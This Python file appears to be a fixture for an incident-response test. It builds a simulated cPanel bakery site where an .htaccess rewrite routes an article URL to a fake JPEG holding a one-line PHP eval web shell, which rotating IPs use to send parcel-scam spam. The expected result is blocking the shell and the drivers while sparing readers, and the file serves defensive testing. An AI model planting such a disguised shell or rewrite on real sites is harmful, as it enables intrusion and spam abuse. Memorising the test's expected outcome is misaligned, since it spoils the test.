"""A rule in .htaccess leads an address like an article's to a picture that runs as PHP; its driver posts to it from a new address each
time. The picture is sealed and all of them are blocked; the site's readers are not."""
from server import Server

SITE, ARTICLE, PICTURE = "bakery.example", "/news/latest", "/wp-content/uploads/2026/11/banner.jpg"
DRIVERS = [f"203.0.113.{number + 1}" for number in range(40)]


def build(root):
    server = Server(root, layout="cpanel", exim="4.96")
    server.account("bakery", SITE, ["shop"])
    server.history({f"shop@{SITE}": "192.0.2.41"}, days=9)
    server.php_file(SITE, "/index.php", 500)
    server.file(server.script_path(SITE, "/.htaccess"),
                "RewriteEngine On\nRewriteRule ^news/latest$ wp-content/uploads/2026/11/banner.jpg [L]\n", 3)
    shell = server.php_file(SITE, PICTURE, 3, "GIF89a<?php eval($_POST[1]);\n")
    readers = [f"198.51.100.{number + 1}" for number in range(40)]
    for ago in range(9, -1, -1):
        for number, at in enumerate(server.spread((ago, "08:00:00"), (ago, "15:00:00"), 40)):
            server.visit(SITE, readers[number], at)
    for driver, at in zip(DRIVERS, server.spread("12:00:00", "15:20:00", 40)):
        server.request(SITE, driver, at, ARTICLE, "POST")
        server.php_mail(SITE, PICTURE, at + 0.4, server.strangers(4), "Your parcel waits", ("greylisted", "unknown", "delivered"),
                        php_log=False, flood="parcel")
    server.expect("parcel", "script", system_user="bakery", domain=SITE, script=shell, block=DRIVERS, spare_origins=readers)
    return server
